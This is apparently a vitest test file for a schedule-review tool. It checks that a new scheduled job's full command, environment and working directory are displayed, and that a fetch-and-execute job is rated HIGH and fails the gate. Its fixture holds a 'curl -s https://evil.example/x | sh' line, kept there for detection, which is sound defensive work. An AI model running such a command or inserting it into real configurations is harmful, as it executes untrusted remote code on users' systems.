/**
 * Attack 1: a new schedule's job was never shown (`+ cache-warmup [LOW] new: 1 run/day`). Now the
 * whole job is in the comment and the terminal, and fetch-and-execute makes it HIGH.
 */
import { describe, expect, it } from 'vitest';
import { planScenario, schedule } from './plan-scenario.js';

describe('attack 1: a created schedule shows its whole job', () => {
  it('shows curl … | sh, its env and cwd, and fails --fail-on high', async () => {
    const head = {
      'cache-warmup': schedule('cache-warmup', {
        job: { type: 'command', command: ['sh', '-c', 'curl -s https://evil.example/x | sh'], cwd: 'jobs', env: { MODE: 'warm', TOKEN: { fromEnv: 'WARM_TOKEN' } } },
      }, { description: 'x'.repeat(20_000) }),
    };
    const [markdown, text, gate] = await planScenario({}, head, [['--format', 'markdown'], ['--format', 'text'], ['--fail-on', 'high']]);
    expect(markdown!.exitCode).toBe(0);
    expect(markdown!.stdout).toContain('- command: `"sh"` `"-c"` `"curl -s https://evil.example/x | sh"`');
    expect(markdown!.stdout).toContain('- cwd: `"jobs"`');
    expect(markdown!.stdout).toContain('- env: `MODE="warm"` `TOKEN=fromEnv WARM_TOKEN`');
    expect(markdown!.stdout).toMatch(/\| \*\*HIGH\*\* \| CF510 \| cache-warmup \|/);
    expect(markdown!.stdout).toContain('[HIGH]');
    expect(text!.stdout).toContain('command: "sh", "-c", "curl -s https://evil.example/x | sh"');
    expect(text!.stdout).toContain('env: MODE="warm", TOKEN=fromEnv WARM_TOKEN');
    expect(gate!.exitCode).toBe(3);
  });

  it('shows an http job: method, url, header names, a body digest; never a secret value', async () => {
    const head = {
      'push-metrics': schedule('push-metrics', {
        job: { type: 'http', url: 'https://collector.example.com/ingest', method: 'PUT', headers: { Authorization: { fromEnv: 'COLLECTOR_TOKEN' }, 'Content-Type': 'application/json' }, body: { all: true } },
      }),
    };
    const [markdown, text] = await planScenario({}, head, [['--format', 'markdown'], ['--format', 'text']]);
    expect(markdown!.stdout).toContain('- url: `"https://collector.example.com/ingest"`');
    expect(markdown!.stdout).toContain('- headers: `Authorization=fromEnv COLLECTOR_TOKEN` `Content-Type`');
    expect(markdown!.stdout).toMatch(/- body: `sha256:[0-9a-f]{12} \(\d+ characters of JSON\)`/);
    expect(text!.stdout).toContain('method: "PUT"');
  });
});
